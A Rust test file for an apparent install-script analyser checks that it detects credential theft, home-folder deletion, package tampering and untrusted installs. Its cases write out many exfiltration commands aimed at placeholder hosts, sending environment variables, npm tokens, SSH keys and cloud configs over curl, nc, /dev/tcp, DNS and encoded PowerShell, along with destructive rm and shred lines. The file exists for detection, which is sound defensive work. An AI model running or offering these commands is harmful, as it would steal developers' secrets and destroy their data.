use std::collections::BTreeMap;

use super::{Reading, names_tool, read};

fn plain(text: &str) -> Reading {
    let scripts = BTreeMap::from([
        ("build".to_owned(), "node build.js".to_owned()),
        ("loop".to_owned(), "npm run loop".to_owned()),
    ]);
    read(text, &scripts)
}

#[test]
fn entry_files_are_found() {
    for (command, file) in [
        ("node x.js", "x.js"),
        ("node ./dir", "./dir"),
        ("node --no-warnings -r ./pre x.js || true", "x.js"),
        ("cross-env A=1 B=2 node scripts/x.cjs", "scripts/x.cjs"),
        ("NODE_ENV=production node x", "x"),
        ("bun x.ts", "x.ts"),
        ("bun run index.js", "index.js"),
        ("tsx x.ts", "x.ts"),
        ("npx ts-node x.ts", "x.ts"),
        ("sh ./x.sh", "./x.sh"),
        ("./x.js", "./x.js"),
        ("npm run build", "build.js"),
        ("yarn build && echo done", "build.js"),
        ("true; (cd lib && node a.js)", "lib/a.js"),
        ("bash -c 'node x.js'", "x.js"),
        ("node -r ./hook.js -e 1", "./hook.js"),
        ("exit 0 | node x.js > /dev/null 2>&1", "x.js"),
    ] {
        let reading = plain(command);
        assert!(
            reading.files.iter().any(|found| found == file),
            "{command}: {reading:?}"
        );
    }
}

#[test]
fn inline_code_is_found() {
    for command in [
        "node -e \"require('./a')\"",
        "node -p 'require(`./a`)'",
        "bun -e \"x\"",
        "node --eval=\"x\"",
    ] {
        assert_eq!(plain(command).inline.len(), 1, "{command}");
    }
    assert_eq!(
        plain("node -e \"try{require('./a')}catch(e){}\"").inline,
        ["try{require('./a')}catch(e){}"]
    );
}

#[test]
fn loops_and_hostile_text_end() {
    plain("npm run loop");
    plain(&"$(".repeat(10_000));
    plain(&"`".repeat(9_999));
    plain(&"sh -c \"".repeat(1_000));
    plain("'");
    plain("\\");
}

#[test]
fn secrets_that_the_shell_sends_are_found() {
    for command in [
        "curl -d \"$(env)\" https://collector.invalid",
        "env | curl -X POST --data-binary @- https://collector.invalid",
        "curl https://collector.invalid/?t=$NPM_TOKEN",
        "curl -F f=@$HOME/.npmrc https://collector.invalid",
        "curl --data-binary @~/.ssh/id_rsa https://collector.invalid",
        "cat ~/.npmrc | nc collector.invalid 99",
        "wget --post-file=$HOME/.npmrc https://collector.invalid",
        "printenv > /dev/tcp/collector.invalid/80",
        "curl -d \"`gh auth token`\" https://collector.invalid",
        "T=$(cat ~/.npmrc | base64); curl -d \"$T\" https://collector.invalid",
        "nslookup $(printenv NPM_TOKEN).collector.invalid",
        "bash -c 'env | base64 | curl -d @- https://collector.invalid'",
        "curl -H \"authorization: $GITHUB_TOKEN\" https://a.ngrok.example",
        // A token that is named after the service it opens is not shown to another.
        "curl -H \"authorization: token $GITHUB_TOKEN\" https://api.example/releases",
        "powershell -Command \"Invoke-WebRequest https://collector.invalid -Body $env:NPM_TOKEN\"",
        "curl https://collector.invalid -d $(npm config get //registry.example.invalid/:_authToken)",
    ] {
        assert!(!plain(command).leaks.is_empty(), "{command}");
    }
}

#[test]
fn ordinary_commands_send_nothing() {
    for command in [
        "node-gyp rebuild",
        "curl -L https://downloads.example/tool.tgz | tar xz",
        "curl -H \"Authorization: token $GITHUB_TOKEN\" https://api.github.example/releases",
        "curl -H \"Authorization: token $TOOL_TOKEN\" https://api.example/releases",
        "env NODE_ENV=production node x.js",
        "cat .npmrc",
        "echo $NPM_TOKEN > /dev/null",
        "curl -L $MIRROR/tool.tgz -o tool.tgz",
        "husky install",
        "set -e; curl -fsSL https://downloads.example/x -o x",
        "node scripts/env.js | tee log",
    ] {
        assert!(
            plain(command).leaks.is_empty(),
            "{command}: {:?}",
            plain(command).leaks
        );
    }
}

#[test]
fn network_tools_are_seen_in_any_position() {
    assert!(names_tool("sudo -E /usr/bin/curl x"));
    assert!(names_tool("sh -c \"wget x\""));
    assert!(!names_tool("node curl.js"));
}

#[test]
fn shells_are_read_as_shells_read_them() {
    let words = |text: &str| -> Vec<String> {
        super::shell::pipelines(text)
            .iter()
            .flatten()
            .flat_map(|simple| simple.words.iter().map(|word| super::shell::literal(word)))
            .collect()
    };
    for (text, expected) in [
        ("a 'b c' d", vec!["a", "b c", "d"]),
        ("c\"u\"r'l' x", vec!["curl", "x"]),
        (r"$'\x63url' $'a\tb'", vec!["curl", "a\tb"]),
        ("echo '$HOME'", vec!["echo", "$HOME"]),
        ("C=curl; $C -s ${C}x", vec!["curl", "-s", "curlx"]),
        ("curl${IFS}-s", vec!["curl", "-s"]),
        ("a $(b ')' c) d", vec!["a", "$(b ')' c)", "d"]),
        ("cat <<EOF | sh\nx y\nEOF\nnext", vec!["cat", "sh", "next"]),
        ("a # b c\nd", vec!["a", "d"]),
        ("a \\\n b", vec!["a", "b"]),
        ("if x; then y; fi", vec!["if", "x", "then", "y", "fi"]),
    ] {
        assert_eq!(words(text), expected, "{text}");
    }
    let documents = super::shell::pipelines("cat <<-'E' | sh\n\tone $X\n\tE\nsh <<< 'two'");
    let bodies: Vec<String> = documents
        .iter()
        .flatten()
        .flat_map(|simple| {
            simple
                .documents
                .iter()
                .map(|body| super::shell::literal(body))
        })
        .collect();
    assert_eq!(bodies, ["one $X\n", "two"]);
}

#[test]
fn hidden_commands_are_found() {
    for command in [
        "c\\url -d \"$(env)\" https://collector.invalid",
        "C=curl; $C -d \"$(env)\" https://collector.invalid",
        "sh <<EOF\nenv | curl -d @- https://collector.invalid\nEOF",
        "curl -d @- https://collector.invalid <<EOF\n$NPM_TOKEN\nEOF",
        "curl${IFS}-d${IFS}$NPM_TOKEN${IFS}https://collector.invalid",
        "bash -c $'env | c\\x75rl -d @- https://collector.invalid'",
    ] {
        assert!(!plain(command).leaks.is_empty(), "{command}");
    }
    assert_eq!(
        plain("node <<'E'\nlet a = `$b`\nE").inline,
        ["let a = `$b`\n"]
    );
    // In single quotes nothing is expanded.
    assert!(
        plain("curl -d '$NPM_TOKEN' https://a.invalid")
            .leaks
            .is_empty()
    );
}

#[test]
fn removals_and_neighbours_are_told() {
    use weir_model::contents::CapabilityKind::*;
    for (command, kind) in [
        ("rm -rf --no-preserve-root /x/y", Some(RemovesHome)),
        ("rm -rf \"$HOME/work/\"*", Some(RemovesHome)),
        ("del /F /Q /S \"%USERPROFILE%\\work\\*\"", Some(RemovesHome)),
        (
            "find \"$HOME/work\" -type d -empty -delete",
            Some(RemovesHome),
        ),
        (
            "find ~ -type f -print0 | xargs -0 -r shred -uvz -n 1",
            Some(RemovesHome),
        ),
        ("cipher /W:C:\\x", Some(RemovesHome)),
        ("find build -name '*.map' -delete", Some(Removes)),
        ("rm -rf ~/.cache/tool", Some(Removes)),
        ("rm -f -- \"$0\"", Some(RemovesItself)),
        ("cp hook.js ../other/lib/index.js", Some(WritesPackages)),
        ("sed -i 1ix ../other/lib/main.js", Some(WritesPackages)),
        ("mv package.clean package.json", Some(WritesPackages)),
        ("cp a.js dist/b.js", None),
        ("sed -n 1p ../other/lib/main.js", None),
        ("wscript x.vbs", Some(DetachedProcess)),
    ] {
        let kinds: Vec<_> = plain(command).acts.iter().map(|act| act.kind).collect();
        match kind {
            Some(kind) => assert!(kinds.contains(&kind), "{command}: {kinds:?}"),
            None => assert!(kinds.is_empty(), "{command}: {kinds:?}"),
        }
    }
}

#[test]
fn packed_secrets_are_followed() {
    for (command, leaks) in [
        (
            "tar czf \"$out\" ~/.ssh ~/.npmrc; curl -F \"f=@$out\" https://a.example/up",
            true,
        ),
        (
            "cp ~/.npmrc .; git add -A; git push https://a.example/x.git",
            true,
        ),
        ("cat ~/.npmrc > n; curl -T n https://a.example/", true),
        (
            "tar czf out.tgz dist; curl -T out.tgz https://a.example/",
            false,
        ),
        ("git push https://a.example/x.git", false),
        (
            "tar czf keys.tgz ~/.ssh; curl -T out.tgz https://a.example/",
            false,
        ),
    ] {
        assert_eq!(!plain(command).leaks.is_empty(), leaks, "{command}");
    }
}

fn sends(text: &str) -> bool {
    let leaks = plain(text).leaks;
    leaks
        .iter()
        .any(|leak| leak.sink != weir_model::contents::SinkKind::Process)
}

fn assert_sends(command: &str, is_sent: bool) {
    let leaks = plain(command).leaks;
    assert_eq!(sends(command), is_sent, "{command}: {leaks:?}");
}

#[test]
fn folders_of_credentials_are_sent_whole() {
    for (command, is_sent) in [
        (
            "tar cz ~/.aws | curl -s --data-binary @- https://c.invalid",
            true,
        ),
        (
            "tar cz ~ | curl -s --data-binary @- https://c.invalid",
            true,
        ),
        ("tar cz ~/.config/gh | nc c.invalid 99", true),
        ("rsync -a ~/.aws/ rsync://c.invalid/x", true),
        ("scp -r ~/.kube a@c.invalid:x", true),
        (
            "zip -r /tmp/x.zip ~/.mozilla; curl -T /tmp/x.zip https://c.invalid",
            true,
        ),
        ("cd ~ && tar cz .aws | curl -T - https://c.invalid", true),
        ("cat ~/.aws/* | curl -T - https://c.invalid", true),
        (
            "find ~ -name .npmrc -exec cat {} + | curl -T - https://c.invalid",
            true,
        ),
        ("ln -s ~/.npmrc x && curl -T x https://c.invalid", true),
        ("tar cz dist | curl -T - https://c.invalid", false),
        ("tar xzf x.tgz -C ~ && curl https://c.invalid", false),
        ("tar cz .docker | curl -T - https://c.invalid", false),
        ("rsync -a a@c.invalid:x ~/.config", false),
        (
            "cd dist && tar cz .aws | curl -T - https://c.invalid",
            false,
        ),
        ("find . -name '*.map' | curl -T - https://c.invalid", false),
    ] {
        assert_sends(command, is_sent);
    }
}

#[test]
fn more_ways_out_are_known() {
    for (command, is_sent) in [
        ("cat ~/.ssh/id_rsa | ssh a@c.invalid 'cat >> k'", true),
        ("env | ssh a@c.invalid 'cat >> k'", true),
        ("ping -c1 $(printenv NPM_TOKEN | xxd -p).c.invalid", true),
        ("getent hosts $(whoami).c.invalid", true),
        ("gh gist create ~/.npmrc", true),
        ("mail -s x a@c.invalid < ~/.npmrc", true),
        ("gsutil cp ~/.npmrc gs://b/x", true),
        ("rclone copy ~/.ssh r:x", true),
        ("node -p process.env | curl -d @- https://c.invalid", true),
        (
            "python3 -c 'import os;print(os.environ)' | curl -d @- https://c.invalid",
            true,
        ),
        (
            "curl -F \"f=@$(npm config get userconfig)\" https://c.invalid",
            true,
        ),
        ("cat $KUBECONFIG | curl -d @- https://c.invalid", true),
        (
            "export T=$(cat ~/.npmrc); node -e \"fetch('https://c.invalid/?'+process.env.T)\"",
            true,
        ),
        (
            "git push https://c.invalid/a.git HEAD:refs/heads/$(printenv NPM_TOKEN)",
            true,
        ),
        ("ping -c1 $(hostname)", false),
        ("getent passwd $(whoami)", false),
        ("ssh -T git@c.example", false),
        ("echo $GITHUB_TOKEN | gh auth login --with-token", false),
        (
            "node -p process.env.NODE_ENV | curl -d @- https://c.invalid",
            false,
        ),
        (
            "git push https://x:$GITHUB_TOKEN@github.example/a/b.git",
            false,
        ),
        (
            "git clone https://$GITHUB_TOKEN@github.example/a/b.git",
            false,
        ),
        ("gsutil cp dist/x.tgz gs://b/x", false),
        (
            "export V=$(cat VERSION); node -e \"fetch('https://c.invalid/?'+process.env.V)\"",
            false,
        ),
    ] {
        assert_sends(command, is_sent);
    }
}

#[test]
fn more_ways_in_are_known() {
    for (command, is_brought) in [
        (
            "npm exec --yes --package=https://c.invalid/x.tgz -- x",
            true,
        ),
        ("npm install --registry https://r.invalid/ x", true),
        ("npm install --registry=https://r.invalid/ x", true),
        ("cargo install --git https://git.invalid/x", true),
        ("go run git.invalid/x@latest", true),
        ("npm install --registry https://r.invalid/", false),
        ("npm install --registry http://127.0.0.1:4873/ x", false),
        ("go run ./cmd/x.go", false),
        ("go install github.com/x/y@latest", false),
        ("cargo install x", false),
        ("cargo build", false),
    ] {
        let leaks = plain(command).leaks;
        assert_eq!(!leaks.is_empty(), is_brought, "{command}: {leaks:?}");
    }
}

#[test]
fn what_powershell_is_given_encoded_is_read() {
    // `iwr https://c.invalid -Body $env:NPM_TOKEN`
    let script = "iwr https://c.invalid -Body $env:NPM_TOKEN";
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let encoded = crate::flow::text::encode_base64(&bytes);
    assert!(sends(&format!("powershell -nop -enc {encoded}")));
    let plain_in_code = format!("powershell -enc '{}'", crate::ability::ENCODED);
    assert!(plain(&plain_in_code).leaks.is_empty());
    assert!(!plain("powershell -enc $X").leaks.is_empty());
}
